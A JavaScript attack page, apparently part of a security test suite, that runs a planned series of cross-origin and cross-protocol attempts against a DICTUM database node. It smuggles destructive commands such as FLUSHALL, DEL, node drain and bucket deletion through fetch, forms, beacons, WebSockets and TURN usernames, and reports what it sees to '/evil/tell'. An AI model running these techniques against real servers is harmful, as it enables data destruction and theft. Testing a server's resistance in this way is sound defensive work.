// What a web page can try against a node. The page carries out its plan, one attempt after the other, and tells its own server what it could see of each.
"use strict";

// How long an attempt may take before the page says that it has no end.
const PATIENCE_MS = 3000;
// How long a frame or a window may stay empty: one whose answer is a download, or none, stays so for ever.
const EMPTY_MS = 2500;
const LOOK_EVERY_MS = 10;

const plan = JSON.parse(document.getElementById("plan").textContent);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const within = (promise, ms = PATIENCE_MS) => Promise.race([promise, pause(ms).then(() => "no end")]);

// Commands, each on a line and in the form of clients. A server that takes lines of a body for commands stores `stolen:NUMBER`.
function commands(number) {
  const key = `stolen:${number}`;
  const lines = [`SET ${key} 1`, `DEL ${plan.key}`, "FLUSHALL", `DICTUM.BUCKET CREATE stolen-${number}`, "DICTUM.NODE TOKEN", "DICTUM.NODE DRAIN n3", "CONFIG SET maxmemory 1"];
  const framed = `*3\r\n$3\r\nSET\r\n$${key.length}\r\n${key}\r\n$1\r\n1\r\n`;
  return `\r\n${lines.join("\r\n")}\r\n${framed}`;
}

// What the page could read is told as `read STATUS TEXT`; all other words say that it read nothing.
async function fetched(url, options = {}) {
  try {
    const answer = await fetch(url, { cache: "no-store", ...options });
    if (answer.type === "opaque" || answer.type === "opaqueredirect") return answer.type;
    return `read ${answer.status} ${await answer.text()}`;
  } catch {
    return "error";
  }
}

function asked(url, method, body, type) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(`read ${request.status} ${request.responseText}`);
    request.onerror = () => resolve("error");
    request.open(method, url);
    if (type) request.setRequestHeader("Content-Type", type);
    request.send(body);
  });
}

// An element that loads something. Afterwards it is looked at.
async function element(tag, attributes, look = () => "") {
  const made = Object.assign(document.createElement(tag), attributes);
  const ended = new Promise((resolve) => {
    made.onload = made.onloadedmetadata = () => resolve("load");
    made.onerror = () => resolve("error");
  });
  document.body.append(made);
  const event = await within(ended);
  let seen = "";
  try {
    seen = look(made);
  } catch (error) {
    seen = error.name;
  }
  made.remove();
  return `${event} ${seen}`.trim();
}

// Waits until a frame or a window shows something, and says what the page sees of that.
async function shown(get) {
  for (const until = performance.now() + EMPTY_MS; performance.now() < until; ) {
    try {
      const there = get().document;
      if (there === null) return "a foreign document";
      if (there.URL !== "about:blank" && there.readyState === "complete") return `read 200 ${there.documentElement.textContent}`;
    } catch {
      return `a foreign document with ${get().length} frames`;
    }
    await pause(LOOK_EVERY_MS);
  }
  return "no document";
}

async function framed(url, attributes = {}) {
  const frame = Object.assign(document.createElement("iframe"), { ...attributes, src: url });
  document.body.append(frame);
  const seen = await shown(() => frame.contentWindow);
  frame.remove();
  return seen;
}

async function opened(url) {
  const other = window.open(url);
  if (!other) return "no window";
  const seen = await shown(() => other);
  other.close();
  return seen;
}

async function submitted(url, type, text, target = "form") {
  const frame = Object.assign(document.createElement("iframe"), { name: "form" });
  const form = Object.assign(document.createElement("form"), { action: url, method: "POST", enctype: type, target });
  // Controls of several lines keep their line breaks.
  form.append(Object.assign(document.createElement("textarea"), { name: "x", value: text }));
  document.body.append(frame, form);
  const other = target === "form" ? frame.contentWindow : window.open("about:blank", target);
  form.submit();
  const seen = await shown(() => other);
  frame.remove();
  form.remove();
  if (target !== "form") other.close();
  return seen;
}

// A page of no origin (`Origin: null`): it runs in a frame and says what it saw.
async function sandboxed(url, options) {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms";
  const call = `fetch(${JSON.stringify(url)}, ${JSON.stringify(options)}).then(async (it) => it.type === "opaque" ? it.type : "read " + it.status + " " + await it.text(), () => "error")`;
  frame.srcdoc = `<script>${call}.then((seen) => parent.postMessage(seen, "*"))</script>`;
  const said = new Promise((resolve) => window.addEventListener("message", (event) => resolve(event.data), { once: true }));
  document.body.append(frame);
  const seen = await within(said);
  frame.remove();
  return seen;
}

function socket(url, protocols) {
  return new Promise((resolve) => {
    const made = new WebSocket(url.replace(/^http/, "ws"), protocols);
    made.onmessage = (event) => resolve(`read 200 ${event.data}`);
    made.onclose = (event) => resolve(`closed ${event.code}`);
  });
}

async function listened(url) {
  const source = new EventSource(url);
  const seen = await within(
    new Promise((resolve) => {
      source.onmessage = (event) => resolve(`read 200 ${event.data}`);
      source.onopen = () => resolve("open");
      source.onerror = () => resolve("error");
    }),
  );
  source.close();
  return seen;
}

async function worked(url) {
  const worker = new Worker(URL.createObjectURL(new Blob([`try { importScripts(${JSON.stringify(url)}); postMessage("load") } catch (error) { postMessage(error.name) }`])));
  const seen = await within(new Promise((resolve) => ((worker.onmessage = (event) => resolve(event.data)), (worker.onerror = () => resolve("error")))));
  worker.terminate();
  return seen;
}

// TURN over TCP, and ICE over TCP: bytes that are not HTTP, in which the page chooses some.
async function turned(target, number) {
  const servers = [{ urls: `turn:${target.host}:${target.port}?transport=tcp`, username: commands(number).slice(0, 500), credential: "x" }];
  const peer = new RTCPeerConnection({ iceServers: servers, iceTransportPolicy: "relay" });
  peer.createDataChannel("x");
  const ended = new Promise((resolve) => (peer.onicecandidateerror = (event) => resolve(`error ${event.errorCode}`)));
  await peer.setLocalDescription();
  const seen = await within(ended);
  peer.close();
  return seen;
}

// Ways to read, by a name: each takes a URL.
const READS = {
  "fetch GET": (url) => fetched(url),
  "fetch GET with credentials": (url) => fetched(url, { credentials: "include" }),
  "fetch GET no-cors": (url) => fetched(url, { mode: "no-cors" }),
  "fetch GET no-cors without a referrer": (url) => fetched(url, { mode: "no-cors", referrerPolicy: "no-referrer" }),
  "fetch HEAD no-cors": (url) => fetched(url, { mode: "no-cors", method: "HEAD" }),
  "XMLHttpRequest GET": (url) => asked(url, "GET"),
  img: (url) => element("img", { src: url }, (it) => `${it.naturalWidth}x${it.naturalHeight}`),
  script: (url) => element("script", { src: url }),
  "script module": (url) => element("script", { src: url, type: "module" }),
  stylesheet: (url) => element("link", { rel: "stylesheet", href: url }, (it) => `${it.sheet?.cssRules.length}`),
  prefetch: (url) => element("link", { rel: "prefetch", href: url }),
  video: (url) => element("video", { src: url, preload: "metadata" }, (it) => `${it.duration}`),
  object: (url) => element("object", { data: url }),
  embed: (url) => element("embed", { src: url }),
  iframe: (url) => framed(url),
  window: (url) => opened(url),
  import: (url) => import(url).then(() => "load", () => "error"),
  importScripts: (url) => worked(url),
  EventSource: (url) => listened(url),
  "sandboxed frame: fetch GET": (url) => sandboxed(url, {}),
};

// Ways that take long: of paths that tell of no key and no bucket, one is enough. Chromium makes a page wait for seconds between connections for a
// WebSocket that fail, so only two paths are asked for by that.
const SLOW = ["iframe", "window", "object", "embed", "importScripts", "sandboxed frame: fetch GET"];
const SOCKET_PATHS = ["/metrics", "/v1/audit"];

// Ways to send a body that no server is asked about before: each takes a URL and a text.
const SIMPLE = {
  "fetch POST no-cors": (url, text) => fetched(url, { mode: "no-cors", method: "POST", body: text }),
  "fetch POST no-cors without a referrer": (url, text) => fetched(url, { mode: "no-cors", method: "POST", body: text, referrerPolicy: "no-referrer" }),
  "fetch POST no-cors, keepalive": (url, text) => fetched(url, { mode: "no-cors", method: "POST", body: text, keepalive: true }),
  "fetch POST of a Blob without a type": (url, text) => fetched(url, { mode: "no-cors", method: "POST", body: new Blob([text]) }),
  "fetch POST urlencoded": (url, text) => fetched(url, { mode: "no-cors", method: "POST", body: text, headers: { "Content-Type": "application/x-www-form-urlencoded" } }),
  "fetch POST multipart": (url, text) => {
    const body = new FormData();
    body.append("x", new Blob([text]));
    return fetched(url, { mode: "no-cors", method: "POST", body });
  },
  "fetch POST cors, simple": (url, text) => fetched(url, { method: "POST", body: text }),
  "XMLHttpRequest POST": (url, text) => asked(url, "POST", text, "text/plain"),
  "form text/plain": (url, text) => submitted(url, "text/plain", text),
  "form urlencoded": (url, text) => submitted(url, "application/x-www-form-urlencoded", text),
  "form multipart": (url, text) => submitted(url, "multipart/form-data", text),
  "form into a window": (url, text) => submitted(url, "text/plain", text, "another"),
  "sendBeacon text": (url, text) => Promise.resolve(`${navigator.sendBeacon(url, text)}`),
  "sendBeacon form": (url, text) => Promise.resolve(`${navigator.sendBeacon(url, new URLSearchParams({ x: text }))}`),
  "redirected POST": (url, text) => fetched(`/evil/redirect?to=${encodeURIComponent(url)}`, { mode: "no-cors", method: "POST", body: text }),
  "sandboxed frame: fetch POST": (url, text) => sandboxed(url, { mode: "no-cors", method: "POST", body: text }),
};

// Ways about which the browser asks the server first (CORS preflight), unless the page has the server's own origin.
const CHANGE = { "Content-Type": "application/octet-stream" };
const PREFLIGHTED = {
  "fetch POST": (url, text, type) => fetched(url, { method: "POST", body: text, headers: { "Content-Type": type } }),
  "fetch PUT": (url, text, type) => fetched(url, { method: "PUT", body: text, headers: { "Content-Type": type } }),
  "fetch PATCH": (url, text, type) => fetched(url, { method: "PATCH", body: text, headers: { "Content-Type": type } }),
  "fetch DELETE": (url) => fetched(url, { method: "DELETE" }),
  "XMLHttpRequest PUT": (url, text, type) => asked(url, "PUT", text, type),
  "XMLHttpRequest DELETE": (url) => asked(url, "DELETE"),
};

// Paths at the port for HTTP that tell something. Pairs of those with a key that is there and one that is not must look alike.
function readable() {
  const about = (key) => [`/v1/keys/${key}`, `/getValue?key=${key}`, `/v1/buckets/default/keys/${key}`];
  const buckets = [plan.bucket, plan.nobucket].map((name) => `/v1/buckets/${name}`);
  const fixed = ["/getDictionary", "/v1/status", "/v1/buckets", "/v1/nodes", "/v1/nodes/settings", "/v1/audit", "/metrics", "/livez", "/readyz", "/openapi.json"];
  return [...about(plan.key), ...about(plan.nokey), ...buckets, ...fixed];
}

// Orders at the port for HTTP: a way of PREFLIGHTED, a path and a body. Nothing of them may be done.
function orders(number) {
  const insert = JSON.stringify({ key: `stolen:${number}`, value: "1" });
  return [
    ["fetch PUT", `/v1/keys/stolen:${number}`, "1"],
    ["XMLHttpRequest PUT", `/v1/keys/stolen:${number}`, "1"],
    ["fetch PUT", `/v1/buckets/default/keys/stolen:${number}`, "1"],
    ["fetch POST", "/insertOrUpdate", insert],
    ["fetch PUT", `/v1/buckets/stolen-${number}`, "{}"],
    ["fetch PATCH", `/v1/buckets/${plan.bucket}`, '{"eviction":"allkeys-lru"}'],
    ["fetch PATCH", "/v1/nodes", '{"auto_replace":77}'],
    ["fetch POST", "/v1/nodes/token", ""],
    ["fetch POST", "/v1/nodes/pause", ""],
    ["fetch POST", "/v1/nodes/n3/drain", ""],
    ["fetch DELETE", `/v1/buckets/${plan.victim}`, ""],
    ["fetch DELETE", `/v1/keys/${plan.key}`, ""],
    ["XMLHttpRequest DELETE", `/v1/keys/${plan.key}`, ""],
    ["fetch DELETE", "/v1/nodes/n3", ""],
  ];
}
// The same by ways for which no server is asked: those are POST, so only these paths.
const POSTED = ["/insertOrUpdate", "/v1/nodes/token", "/v1/nodes/pause", "/v1/nodes/n3/drain", "/v1/keys/stolen"];
const METHODS = ["GET", "SET", "DEL", "FLUSHALL", "EVAL", "DICTUM.NODE", "OPTIONS"];

function attempts() {
  const all = [];
  const add = (target, way, path, run) => all.push({ target, way, path, run });
  for (const target of plan.targets) {
    const base = `${target.scheme}://${target.host}:${target.port}`;
    if (target.kind === "http") {
      for (const path of readable()) {
        const isPaired = [plan.key, plan.nokey, plan.bucket, plan.nobucket].some((name) => path.endsWith(name));
        const ways = Object.entries(READS).filter(([way]) => isPaired || path === "/v1/status" || !SLOW.includes(way));
        for (const [way, run] of ways) add(target, way, path, () => run(base + path));
      }
      for (const path of SOCKET_PATHS) add(target, "WebSocket", path, () => socket(base + path));
      for (const path of POSTED) {
        for (const [way, run] of Object.entries(SIMPLE)) {
          add(target, way, path, (number) => run(base + path, JSON.stringify({ key: `stolen:${number}`, value: "1" })));
        }
      }
      for (const [place, [way, path]] of orders(0).entries()) {
        add(target, way, path, (number) => {
          const [, there, body] = orders(number)[place];
          const type = body.startsWith("{") ? "application/json" : "application/octet-stream";
          return PREFLIGHTED[way](base + there, body, type);
        });
      }
      continue;
    }
    const path = "/stolen:0";
    for (const [way, run] of Object.entries(READS)) add(target, way, path, () => run(base + path));
    for (const [way, run] of Object.entries(SIMPLE)) add(target, way, path, (number) => run(base + path, commands(number)));
    for (const [way, run] of Object.entries(PREFLIGHTED)) add(target, way, path, (number) => run(base + path, commands(number), "application/octet-stream"));
    for (const method of METHODS) {
      const options = (number) => (method === "GET" ? {} : { method, body: commands(number), headers: CHANGE });
      add(target, `fetch ${method}`, path, (number) => fetched(`${base}/stolen:${number}`, options(number)));
    }
    add(target, "WebSocket", path, () => socket(base + path));
    add(target, "WebSocket with subprotocols", path, () => socket(base + path, ["SET", "FLUSHALL"]));
    if (target.turns) add(target, "TURN over TCP", path, (number) => turned(target, number));
  }
  return all;
}

// What the browser tells every page of how it loaded something, without the times.
function timings(url) {
  const entries = performance.getEntriesByType("resource").filter((entry) => entry.name.startsWith(url));
  return entries.map((entry) => [entry.initiatorType, entry.responseStatus, entry.transferSize, entry.encodedBodySize, entry.decodedBodySize, entry.contentType].join(" "));
}

async function main() {
  let number = plan.first;
  for (const { target, way, path, run } of attempts()) {
    performance.clearResourceTimings();
    const began = performance.now();
    let seen;
    try {
      seen = await within(run(number), 2 * PATIENCE_MS);
    } catch (error) {
      seen = `thrown ${error.name}`;
    }
    const told = { number, target: target.name, host: `${target.scheme}://${target.host}`, way, path, took: Math.round(performance.now() - began), seen: seen.slice(0, 4000), timings: timings(`${target.scheme}://${target.host}`) };
    // Answered when the node has answered what the attempt sent, or has closed the connection.
    await fetch("/evil/tell", { method: "POST", body: JSON.stringify(told) });
    number += 1;
  }
  const { next } = await (await fetch("/evil/done", { method: "POST", body: "{}" })).json();
  if (next) location.replace(next);
}

main().catch((error) => fetch("/evil/failed", { method: "POST", body: JSON.stringify({ error: `${error.stack}` }) }));
